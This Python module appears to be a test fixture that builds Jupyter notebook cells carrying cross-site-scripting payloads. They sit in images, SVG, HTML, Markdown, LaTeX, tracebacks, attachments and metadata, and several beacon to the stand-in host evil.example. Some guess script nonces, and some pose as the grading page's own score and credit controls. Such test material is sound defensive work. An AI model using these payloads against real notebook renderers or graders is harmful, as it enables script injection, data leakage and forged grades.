"""Output channel: what a notebook puts out, and what it says of itself, runs on the page that shows it."""

from __future__ import annotations

import base64
from typing import Any

from nbformat import NotebookNode, from_dict, v4

DOT = base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(40)).decode()
NAME = "THIS-ATTACK"  # in its place, the test writes the attack's name
HACK = f"(window.hacked=window.hacked||[]).push('{NAME}')"
LOAD = f"new Image().src='https://evil.example/{NAME}'"
IMAGE = f'<img src=x onerror="{HACK};{LOAD}">'
Cells = list[NotebookNode]


def _shows(data: dict[str, Any], metadata: dict[str, Any] | None = None) -> Cells:
    """A cell that displays this bundle."""
    show = f"display({data!r}, metadata={metadata or {}!r}, raw=True)"
    return [v4.new_code_cell(f"from IPython.display import display\n{show}")]


def _markdown(source: str) -> Cells:
    return [v4.new_markdown_cell(source)]


def png_width() -> Cells:
    """a PNG whose width ends its attribute"""
    return _shows({"image/png": DOT}, {"image/png": {"width": f"1 onload={HACK}"}})


def jpeg_height() -> Cells:
    """a JPEG whose height ends its attribute"""
    return _shows({"image/jpeg": DOT}, {"height": f"1 onload={HACK} onerror={HACK}"})


def width_in_a_list() -> Cells:
    """a width that is a list, a height that is a dict, of such texts"""
    about = {"width": [f"1 onerror={HACK}"], "height": {f"1 onerror={HACK} ": 1}}
    return _shows({"image/png": DOT}, {"image/png": about})


def file_of_a_picture() -> Cells:
    """metadata that names another file for a picture"""
    names = {"image/png": f"x' onerror={HACK} '\" onerror=\"{HACK}"}
    return _shows({"image/png": DOT}, {"filenames": names})


def text_for_a_picture() -> Cells:
    """a picture whose data are markup"""
    return _shows({"image/png": f'"><script>{HACK}</script>{IMAGE}'})


def words_of_a_picture() -> Cells:
    """an alternative text that ends its attribute"""
    alt = f'" onload="{HACK}" <script>{HACK}</script>'
    return _shows({"image/png": DOT}, {"image/png": {"alt": alt}})


def kind_that_is_markup() -> Cells:
    """a MIME type that is markup"""
    return _shows({f"text/<script>{HACK}</script>": "x", f"image/{IMAGE}": DOT, "text/plain": "x"})


def javascript() -> Cells:
    """application/javascript and text/javascript"""
    return _shows({"application/javascript": HACK, "text/javascript": HACK})


def svg() -> Cells:
    """an SVG with a script, a handler and a foreign object"""
    inside = f"<script>{HACK}</script><foreignObject>{IMAGE}</foreignObject>"
    whole = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{HACK}">{inside}</svg>'
    return _shows({"image/svg+xml": whole}) + _shows({"text/html": whole})


def html_output() -> Cells:
    """HTML with scripts, handlers, frames and objects"""
    frame = f'<iframe srcdoc="<script>parent.eval(`{HACK}`)</script>"></iframe>'
    rest = f'<object data="javascript:{HACK}"></object><body onload={HACK}>'
    return _shows({"text/html": f"<script>{HACK}</script>{IMAGE}{frame}{rest}"})


def html_that_mutates() -> Cells:
    """HTML that changes its meaning when it is parsed a second time"""
    style = f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;{IMAGE}'>"
    title = f"<svg></p><style><a id='</style>{IMAGE}'><noscript><p title='</noscript>{IMAGE}'>"
    return _shows({"text/html": style}) + _shows({"text/html": title})


def markdown_output() -> Cells:
    """Markdown as an output, with markup and links that are scripts"""
    return _shows({"text/markdown": f"[a](javascript:{HACK}) {IMAGE}\n\n<script>{HACK}</script>"})


def latex_output() -> Cells:
    """LaTeX as an output, whose text is markup"""
    return _shows({"text/latex": rf"$\text{{{IMAGE}}}$"}) + _shows({"text/latex": f"$x$ {IMAGE}"})


def widget_view() -> Cells:
    """a widget's view without a model, and with one that is markup"""
    kind = "application/vnd.jupyter.widget-view+json"
    return _shows({kind: {"model_id": f"</script>{IMAGE}"}}) + _shows({kind: {}})


def terminal_codes() -> Cells:
    """terminal codes around markup, links of a terminal"""
    text = f'\x1b[31m{IMAGE}\x1b[38;2;"><script>{HACK}</script>m \x1b]8;;javascript:{HACK}\x07x'
    return [v4.new_code_cell(f"import sys\nprint({text!r})\nprint({text!r}, file=sys.stderr)")]


def error_names() -> Cells:
    """an exception whose name, message and notes are markup"""
    made = f"error = type({IMAGE!r}, (ValueError,), {{}})({IMAGE!r})"
    return [v4.new_code_cell(f"{made}\nerror.add_note({IMAGE!r})\nraise error")]


def function_names() -> Cells:
    """a traceback through functions and files whose names are markup"""
    return [
        v4.new_code_cell(
            f"scope, name = {{}}, {IMAGE!r}\n"
            "exec(compile('def f(): 1 / 0', name, 'exec'), scope)\n"
            "f = scope['f']\n"
            "f.__code__ = f.__code__.replace(co_name=name, co_qualname=name)\n"
            "f()"
        )
    ]


def verdict_of_its_own() -> Cells:
    """a displayed verdict whose sentences are markup"""
    record = {
        "item": "mse",
        "says": IMAGE,
        "message": IMAGE,
        "mistakes": [IMAGE],
        "expected": IMAGE,
    }
    return _shows({"application/vnd.pencilgrad.verdict+json": record, "text/plain": "2"})


def json_output() -> Cells:
    """JSON and data of unknown kinds, keys and values markup, fifty deep"""
    deep: Any = IMAGE
    for _ in range(50):
        deep = {IMAGE[:40]: [deep]}
    return _shows({"application/json": deep, "application/vnd.plotly.v1+json": deep})


def markdown_cell() -> Cells:
    """a text cell with scripts, handlers, links and headings that are markup"""
    links = (
        f"[a](javascript:{HACK}) <javascript:{HACK}> [b](data:text/html,<script>{HACK}</script>)"
    )
    code = f"```<script>{HACK}</script>\n{IMAGE}\n```"
    return _markdown(f"# {IMAGE}\n\n<script>{HACK}</script>\n\n{links}\n\n{code}")


def mathematics() -> Cells:
    """formulas that are links, styles and markup"""
    return _markdown(
        rf"$\href{{javascript:{HACK}}}{{x}}$ $\text{{{IMAGE}}}$ $\class{{a\" onclick=\"{HACK}}}{{x}}$"
        rf" $$\require{{action}}\toggle{{a}}{{{IMAGE}}}$$ \begin{{{IMAGE}}}x\end{{{IMAGE}}}"
    )


def mermaid() -> Cells:
    """a diagram in a text cell, with a click that is a script"""
    return _markdown(f'```mermaid\ngraph TD; A["{IMAGE}"]; click A "javascript:{HACK}"\n```')


def attachment() -> Cells:
    """attachments whose names, kinds and data are markup"""
    shown = f"![a](attachment:a.svg) ![b](attachment:b.png) ![{IMAGE}](attachment:{IMAGE})"
    cell = v4.new_markdown_cell(shown)
    image = base64.b64encode(f"<svg onload='{HACK}'/>".encode()).decode()
    cell["attachments"] = {
        "a.svg": {"image/svg+xml": image},
        "b.png": {"image/png": f'x" onerror="{HACK}'},
        IMAGE: {f"text/html,{IMAGE}": IMAGE},
    }
    return [cell]


def raw_cell() -> Cells:
    """a raw cell that says it is HTML"""
    about = {"raw_mimetype": "text/html", "format": "text/html"}
    return [v4.new_raw_cell(f"<script>{HACK}</script>{IMAGE}", metadata=from_dict(about))]


def tags() -> Cells:
    """tags and other metadata of cells that are markup"""
    words = [f'x" onclick="{HACK}" onanimationstart="{HACK}', IMAGE, f"><script>{HACK}</script>"]
    about = {"tags": words, "title": IMAGE, "name": IMAGE, "alt": IMAGE}
    return [
        make("1", metadata=from_dict(about)) for make in (v4.new_code_cell, v4.new_markdown_cell)
    ]


def language_of_a_cell() -> Cells:
    """a language of a cell, for its colours, that is markup"""
    about = {"magics_language": f'"><script>{HACK}</script>'}
    return [v4.new_code_cell("%%html\n" + IMAGE, metadata=from_dict(about))]


def code_that_is_markup() -> Cells:
    """code and comments that are markup, closing what holds them"""
    return [v4.new_code_cell(f'# </pre></div></script>{IMAGE}\nx = r"""</textarea>{IMAGE}"""')]


def style_and_links() -> Cells:
    """style sheets and links that ask another server"""
    url = f"https://evil.example/{NAME}"
    sheet = f"<style>@import '{url}'; body {{ background: url({url}) }}</style>"
    links = (
        f"<link rel=stylesheet href={url}><base href={url}/><p style='background:url({url})'>x</p>"
    )
    return _markdown(sheet + links) + _shows({"text/html": sheet + links})


def pictures_of_another_server() -> Cells:
    """pictures, media and posters of another server"""
    url = f"https://evil.example/{NAME}"
    media = f'<img src="{url}"><img srcset="{url} 1x"><video poster="{url}"></video>'
    more = (
        f'<audio src="{url}" autoplay></audio><table background="{url}"><tr><td>x</td></tr></table>'
    )
    return _markdown(f"![a]({url})\n\n{media}{more}") + _shows({"text/html": media + more})


def refresh() -> Cells:
    """a page that moves on to another server by itself"""
    move = f'<meta http-equiv="refresh" content="0; url=https://evil.example/{NAME}">'
    return _markdown(move) + _shows({"text/html": move})


def posing() -> Cells:
    """elements that pose as the page's own: ids, inputs, buttons that grade"""
    pose = f'<input class="score" id="mse-test" value="2" autofocus onfocus="{HACK}">'
    more = f'<form action="https://evil.example/{NAME}"><textarea id="mse-comment">'
    return _markdown(pose + more) + _shows(
        {"text/html": f"{pose}<button class=full-credit>x{more}"}
    )


def word_of_the_scripts() -> Cells:
    """scripts that guess the word by which the page's own scripts may run"""
    words = ("", "nonce", "{{ nonce }}", "undefined")
    guesses = "".join(f'<script nonce="{word}">{HACK}</script>' for word in words)
    return _markdown(guesses) + _shows({"text/html": guesses})


def templates() -> Cells:
    """texts that a template might take for its own"""
    text = f"{{{{ '<script>{HACK}</script>' | safe }}}} {{% raw %}} <%= {HACK} %> ${{{HACK}}}"
    return [v4.new_markdown_cell(text), v4.new_code_cell(f"print({text!r})")]


def whole_notebook(notebook: NotebookNode) -> Cells:
    """title, authors, kernel, language and widgets of the notebook that are markup"""
    notebook.metadata["title"] = f"</title><script>{HACK}</script>"
    notebook.metadata["authors"] = [{"name": IMAGE}]
    notebook.metadata["language_info"] = {
        "name": IMAGE, "pygments_lexer": f'"><script>{HACK}</script>', "codemirror_mode": {IMAGE: IMAGE},
    }  # fmt: skip
    state = {"state": {"x": {"model_name": f"</script>{IMAGE}"}}, "version_major": 2}
    notebook.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": state}
    notebook.metadata["kernelspec"]["display_name"] = IMAGE
    return []
